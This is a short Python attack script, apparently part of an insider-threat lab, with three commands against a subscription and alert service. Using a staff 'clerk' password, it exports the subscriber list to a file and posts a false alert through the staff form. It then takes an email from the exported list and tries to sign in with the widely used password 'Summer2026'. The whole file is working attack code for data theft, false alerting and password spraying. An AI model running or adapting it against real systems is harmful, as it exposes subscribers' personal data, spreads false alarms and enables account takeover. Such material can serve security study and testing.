"""What an insider does, with nothing but the access that they have, and what somebody makes of it later.

    python insider.py export SERVICE_URL PASSWORD ADDRESS FILE     the list of subscribers, with a staff account
    python insider.py alert SERVICE_URL PASSWORD ADDRESS           a false alert through the service's own form
    python insider.py sign-in SERVICE_URL FILE ADDRESS DOMAIN      as one of the list whose mailbox is at DOMAIN

Each comes from the local address that is named.
"""

from __future__ import annotations

import csv
import sys
from pathlib import Path

from intruder import FALSE_ALERT, client


def export(service: str, password: str, address: str, file: str) -> None:
    """As the clerk."""
    page = client(address).get(f"{service}/staff/subscribers.csv", auth=("clerk", password), timeout=10)
    Path(file).write_text(page.text)
    print(f"exported {len(page.text.splitlines())} subscribers: {page.status_code}")


def alert(service: str, password: str, address: str) -> None:
    """As the clerk, whom the service does not ask why."""
    form = {"text": FALSE_ALERT}
    page = client(address).post(f"{service}/staff/alerts", form, auth=("clerk", password), timeout=60)
    print(f"false alert through the service's own form: {page.status_code}, {page.text}")


def sign_in(service: str, file: str, address: str, domain: str) -> None:
    """With a password that many people have."""
    people = csv.reader(Path(file).read_text().splitlines())
    email = next(person[2] for person in people if person[2].endswith(f"@{domain}"))
    page = client(address).post(service, {"username": email, "password": "Summer2026"}, timeout=10)
    print(f"a sign-in as {email}: {page.status_code}")


if __name__ == "__main__":
    {"export": export, "alert": alert, "sign-in": sign_in}[sys.argv[1]](*sys.argv[2:])
